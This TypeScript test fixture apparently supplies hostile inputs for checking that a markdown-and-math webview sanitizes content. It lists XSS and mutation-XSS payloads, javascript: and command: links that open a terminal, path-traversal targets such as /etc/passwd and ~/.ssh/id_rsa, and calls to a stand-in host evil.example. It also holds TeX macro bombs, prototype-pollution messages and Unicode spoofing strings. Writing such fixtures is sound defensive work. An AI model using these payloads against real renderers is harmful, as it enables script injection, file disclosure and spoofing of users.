/**
 * Texts that try to run something, load something or freeze the page. Each sets `globalThis.pwned` or asks for a
 * file of `evil.example` if it works.
 */
export const hostileInputs: readonly string[] = [...html(), ...links(), ...tex(), ...structure()];

/** As `hostileInputs`, for what means something in a deck alone: raw HTML, images, links into the deck. */
export const hostileDeckInputs: readonly string[] = [...deckImages(), ...deckLinks(), ...deckHtml()];

/** Characters that are not seen or turn text around: each of these reads `What is LoRA?`. */
export const hostileTitles: readonly string[] = [
  'What is Lo\u200BRA?',
  'What is \u2060LoRA\uFEFF?',
  'What\u00AD is Lo\u034FRA?',
  'What is LoRA\uFE0F?',
  'What is L\u200Do\u200CRA?',
  'What\u00A0is\u2028LoRA?',
  '\u202EWhat is LoRA?\u202C',
  '\u2067What\u2069 is \u200FLoRA\u061C?',
  'What is LoRA\u{E0041}\u{E007F}?',
  'What is\u0008 LoRA\u007F\u009B?',
  'What is LoRA\u3164?',
  'What is LoRA\uFFF9?',
];

/** Targets of links and images that lead out of a deck, or might where systems read them differently. */
export const hostileTargets: readonly string[] = [
  '../../secret.md',
  '..',
  './../../secret.md',
  'x/../../../secret.md',
  '%2e%2e/%2e%2e/secret.md',
  '.%2e/secret.md',
  '%252e%252e/secret.md',
  '..%2f..%2fsecret.md',
  '..%5c..%5csecret.md',
  '..\\..\\secret.md',
  '.. /secret.md',
  '... /secret.md',
  '/etc/passwd',
  '%2fetc%2fpasswd',
  '\\\\evil.example\\share\\x.md',
  '%5c%5cevil.example%5cshare',
  '//evil.example/x.md',
  'C:/Windows/win.ini',
  'C%3A%5CWindows',
  'x.md:stream',
  'x%00.md',
  'x\u0000.md',
  'x%0a.md',
  'file:///etc/passwd',
  'FILE:/etc/passwd',
  'vscode:extension/evil.evil',
  'vscode-remote://evil/x',
  'command:workbench.action.terminal.new',
  'data:text/html,<script>pwned=1</script>',
  'javascript:pwned=1',
  '\u0001javascript:pwned=1',
  'mailto:a@evil.example',
  '\uD800.md',
  '%E0%A4%A.md',
];

/** Messages that no page of ours would send to its host. */
export const hostileMessages: readonly unknown[] = [
  null,
  7,
  'open',
  [],
  {},
  { kind: 'request' },
  { kind: 'request', id: 'x', method: 'open', params: { id: 'kv-cache' } },
  { kind: 'request', id: 0.5, method: 'open', params: { id: 'kv-cache' }, extra: '💥'.repeat(1000) },
  { kind: 'reply', id: 1, ok: true, result: {} },
  { kind: 'event', name: 'show', payload: {} },
  ...[
    ['toString', undefined],
    ['constructor', undefined],
    ['__proto__', { polluted: true }],
    ['eval', { text: 'globalThis.pwned=1' }],
    ['executeCommand', { command: 'workbench.action.terminal.new' }],
    ['open', undefined],
    ['open', { id: 7 }],
    ['open', { id: '../../../../etc/passwd' }],
    ['open', { id: 'command:workbench.action.terminal.new' }],
    ['open', { id: 'constructor' }],
    ['open', { id: '<img src=x onerror=pwned=1>' }],
    ['open', { id: 'x'.repeat(1_000_000) }],
    ['openSource', { id: '../../package.json' }],
    ['openSource', { id: 'file:///etc/passwd' }],
    ['followLink', { id: 'kv-cache', target: 'README.md' }],
    ['followLink', { id: 'no--such', target: '../../../../etc/passwd' }],
    ['followLink', { id: 'kv-cache', target: ['x'] }],
    ['followLink', { id: 'kv-cache', target: 'x'.repeat(1_000_000) }],
    ['writeAnswer', { id: 7 }],
    ['quiz', { id: { toString: 'kv-cache' } }],
    ['quiz', { id: 'no-such-question' }],
    ['bookmark', { id: '__proto__', on: 'yes' }],
    ['saveNote', { id: 'kv-cache', text: { evil: true } }],
    ['saveNote', { id: 'no-such-question', text: 'x' }],
    ['saveNote', { id: 'kv-cache', text: 'x'.repeat(1_000_000) }],
    ['keepDraft', { id: 'kv-cache', draft: 'x' }],
    ['reached', { id: 'kv-cache', step: 'beyond' }],
    ['copy', { text: { evil: true } }],
    ['back', { steps: -1 }],
  ].map(([method, params], number) => ({ kind: 'request', id: 1_000_000 + number, method, params })),
];

function html(): string[] {
  const run = 'globalThis.pwned=1';
  return [
    `<script>${run}</script>`,
    `<script src="https://evil.example/a.js"></script>`,
    `<img src=x onerror="${run}">`,
    `<img src="https://evil.example/a.png">`,
    `![picture](https://evil.example/b.png)`,
    `![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkPTEiLz4=)`,
    `<svg onload="${run}"></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<svg><use href="https://evil.example/c.svg#x"></use></svg>`,
    `<svg><style><img src=x onerror="${run}"></style></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><img src=x onerror="${run}"></template>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<object data="https://evil.example/d.swf"></object>`,
    `<embed src="https://evil.example/e.swf">`,
    `<link rel=stylesheet href="https://evil.example/f.css">`,
    `<style>@import "https://evil.example/g.css";</style>`,
    `<style>body{background:url(https://evil.example/h.png)}</style>`,
    `<div style="background:url(https://evil.example/i.png)">x</div>`,
    `<base href="https://evil.example/">`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    `<form action="https://evil.example/"><input autofocus onfocus="${run}"></form>`,
    `<details open ontoggle="${run}"><summary>x</summary></details>`,
    `<video><source onerror="${run}"></video>`,
    `<audio src=x onerror="${run}">`,
    `<body onload="${run}">`,
    `<marquee onstart="${run}">x</marquee>`,
    `<a id=vscode name=vscode>clobber</a><form id=body></form>`,
    `<!--<img src="--><img src=x onerror=${run}>">`,
    `<b title="\`"><img src=x onerror=${run}>\`</b>`,
  ];
}

function links(): string[] {
  const run = 'globalThis.pwned=1';
  return [
    `[a](javascript:${run})`,
    `[a](JaVaScRiPt:${run})`,
    `[a](java&#10;script:${run})`,
    `[a](&#106;avascript:${run})`,
    `[a](\u0001javascript:${run})`,
    `[a](vbscript:${run})`,
    `[a](data:text/html,<script>${run}</script>)`,
    `[a](command:workbench.action.terminal.new)`,
    `[a](command:llmStudy.quiz.start)`,
    `[a](vscode://file/etc/passwd)`,
    `[a](file:///etc/passwd)`,
    `[a](//evil.example/j)`,
    `[a](http://evil.example/k)`,
    `[a]: javascript:${run}\n\n[a]`,
    `<javascript:${run}>`,
    `[a](https://evil.example/"onmouseover="${run})`,
    `[a](../../../../etc/passwd)`,
    `[\u202Eevil](https://evil.example/l)`,
  ];
}

function tex(): string[] {
  return [
    String.raw`$\href{javascript:globalThis.pwned=1}{x}$`,
    String.raw`$\href{command:workbench.action.terminal.new}{x}$`,
    String.raw`$\url{https://evil.example/m}$`,
    String.raw`$\includegraphics[width=1em]{https://evil.example/n.png}$`,
    String.raw`$\htmlClass{x" onclick="pwned=1}{x}$`,
    String.raw`$\htmlId{vscode}{x}$`,
    String.raw`$\htmlStyle{background:url(https://evil.example/o.png)}{x}$`,
    String.raw`$\htmlData{onload=globalThis.pwned}{x}$`,
    String.raw`$\text{<img src=x onerror="globalThis.pwned=1">}$`,
    String.raw`$\unicode{<script>globalThis.pwned=1</script>}$`,
    String.raw`$\def\a{\a\a}\a$`,
    String.raw`$\def\a{bbbbbbbbbb}\def\b{\a\a\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c\c\c}\d\d\d\d$`,
    String.raw`$\rule{1000000em}{1000000em}$`,
    String.raw`$\kern{-99999em}x$`,
    String.raw`$\color{red;background:url(https://evil.example/p.png)}x$`,
    `$${'{'.repeat(2000)}x${'}'.repeat(2000)}$`,
    `$${'\\sqrt{'.repeat(400)}x${'}'.repeat(400)}$`,
    `$${'\\frac{1}{'.repeat(200)}x${'}'.repeat(200)}$`,
    `$${'x^{'.repeat(300)}x${'}'.repeat(300)}$`,
    String.raw`$\undefined{$`,
    '$$\n\\begin{matrix}' + '1&'.repeat(2000) + '\\end{matrix}\n$$',
  ];
}

function structure(): string[] {
  return [
    '> '.repeat(2000) + 'x',
    '- '.repeat(1000) + 'x',
    '['.repeat(5000),
    '*a '.repeat(5000),
    '**a **'.repeat(3000),
    '`'.repeat(5000) + 'x',
    '$'.repeat(5000),
    '$a '.repeat(3000),
    '$$x\n'.repeat(2000),
    `$${'\\displaystyle '.repeat(600)}x$`,
    String.raw`$\def\a#1{{{{{#1}}}}}\def\b#1{\a{\a{\a{\a{\a{#1}}}}}}\b{\b{\b{\b{\b{\b{x}}}}}}$`,
    '$x$ '.repeat(100),
    '![['.repeat(2000),
    '<'.repeat(5000),
    '|a'.repeat(500) + '|\n' + '|-'.repeat(500) + '|\n',
    '&#x0;&#xD800;\u0000\uFEFF\u200B\u202E',
    '```html\n<script>globalThis.pwned=1</script>\n```',
    '```"><img src=x onerror=globalThis.pwned=1>\nx\n```',
    '<span data-math="0">forged</span> $x$',
  ];
}

function deckImages(): string[] {
  const run = 'globalThis.pwned=1';
  return [
    '![a](../../secret.png) ![a](/etc/passwd) ![a](%2e%2e/%2e%2e/secret.png) ![a](..%5csecret.png)',
    '![a](file:///etc/passwd) ![a](vscode-resource:/etc/passwd) ![a](vscode-file://vscode-app/etc/passwd)',
    '![a](//evil.example/x.png) ![a](https:/evil.example/x.png) ![a](https:\\\\evil.example/x.png)',
    '![a](HTTPS://evil.example/x.png "t") ![](http://evil.example/y.png)',
    '![a](https&#58;//evil.example/x.png)\n\n![a]\n\n[a]: https://evil.example/z.png',
    '[![a](https://evil.example/badge.svg)](https://evil.example/)',
    `![" onerror="${run}](missing.png) ![a](missing.png"onerror="${run})`,
    `<img src="list.md" onerror="${run}" onload="${run}" style="position:fixed">`,
    '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" loading=eager>',
    '<img srcset="https://evil.example/b.png 2x"><img lowsrc="https://evil.example/c.png">',
    '<picture><source srcset="https://evil.example/d.png"><img src="https://evil.example/e.png"></picture>',
    '<image src="https://evil.example/f.png"><input type=image src="https://evil.example/g.png">',
    '<table background="https://evil.example/h.png"><td background="https://evil.example/i.png">x</table>',
    '<video poster="https://evil.example/j.png"></video><body background="https://evil.example/k.png">',
    '<svg><image href="https://evil.example/l.png"/><feImage href="https://evil.example/m.png"/></svg>',
    '<img src="data:image/svg+xml,<svg onload=pwned=1>"><img src="blob:https://evil.example/x">',
    '<img width="99999" height="99999%" src="images/cat.svg" usemap="#m"><map name=m><area href="https://evil.example"></map>',
    '<img src="images/cat.svg?https://evil.example/n.png#https://evil.example/o.png">',
  ];
}

function deckLinks(): string[] {
  const run = 'globalThis.pwned=1';
  return [
    '[a](..\\\\..\\\\x.md) [a](%2e%2e/%2e%2e/x.md) [a](.%2e/.%2e/x.md) [a](%252e%252e/x) [a](/etc/passwd) [a](..)',
    '[a](C:/Windows/win.ini) [a](x.md:stream) [a](\\\\evil.example\\share) [a](~/.ssh/id_rsa)',
    '[a](command:workbench.action.terminal.new) <a href="command:workbench.action.terminal.new">a</a>',
    `<a href="javascript&colon;${run}">a</a> <a href=" javascript:${run}">a</a> <a href="java\nscript:${run}">a</a>`,
    '<a href="vscode://file/etc/passwd">a</a> <a href="file:///etc/passwd">a</a> <a href="mailto:a@evil.example">a</a>',
    '<a href="list.md" ping="https://evil.example/p" target="_top" download onclick="pwned=1">a</a>',
    '<a href="https://evil.example/" target="_parent" rel="opener">a</a> <a href="//evil.example">a</a>',
    '<a xlink:href="javascript:pwned=1">a</a> <a href>a</a> <a href="#">a</a> <a href="#constructor">a</a>',
    '[constructor](constructor) [a](__proto__) [a](toString) [a](has-own)',
    '[\u202Emoc.elgoog](https://evil.example/) [goo\u200Bgle.com](https://evil.example/) [a](\u202Egnp.exe)',
    '[https://google.com](https://google.com@evil.example/) [a](https://evil.example:99999/)',
    '<https://evil.example/q> https://evil.example/r www.evil.example evil@evil.example',
    '<a href="list.md#%00">a</a> [a](list.md#../../x) [a](#%2e%2e)',
  ];
}

function deckHtml(): string[] {
  const bombs = Array.from({ length: 1000 }, (_, number) => `<b class=c${String(number)}>`).join('');
  return [
    '<div class="failure">x</div><button class="veil">x</button><p class="visually-hidden">x</p>',
    '<h1 id="own-answer" name="vscode">x</h1><form id=body><input name=attributes></form>',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/s.png)">x</p><font color=red>x</font>',
    '<details open ontoggle="pwned=1"><summary onclick="pwned=1" accesskey=x tabindex=9 autofocus>x</summary></details>',
    '<dialog open>x</dialog><textarea autofocus onfocus="pwned=1">x</textarea><select><option>x</select>',
    '<span data-math="0">a</span><span data-math="1e9">b</span><p data-math="constructor">c</p> $x$',
    `${bombs}${'<p>x'.repeat(3000)}`,
    '<details><summary>x'.repeat(3000),
    '<div>'.repeat(5000),
    '<q>'.repeat(10_000),
    `<table><tr>${'<td colspan=1000 rowspan=1000>x'.repeat(500)}</table>`,
    `<ol start="999999999999"><li value=9>x</ol><ol start=x reversed>x</ol>`,
    '<p align="center"><b>x</b></p><td align="right" valign=top>x</td><p align="expression(pwned=1)">x</p>',
    '<code class="language-python hljs evil">x</code>\n\n```math\n\\href{javascript:pwned=1}{x}\n```',
    String.raw`\(\href{javascript:pwned=1}{x}\) \[\includegraphics{https://evil.example/t.png}\]`,
    '\\('.repeat(5000),
    '\\[\n'.repeat(1000),
    '$`x`$ '.repeat(300),
    '<!-- x --!><img src=x onerror=pwned=1> --> <![CDATA[<img src=x onerror=pwned=1>]]> <?x <img src=x>?>',
    '<br><BR/><kbd>x</kbd><sub>x</sub><mark>x</mark><dl><dt>x<dd>y</dl>',
  ];
}
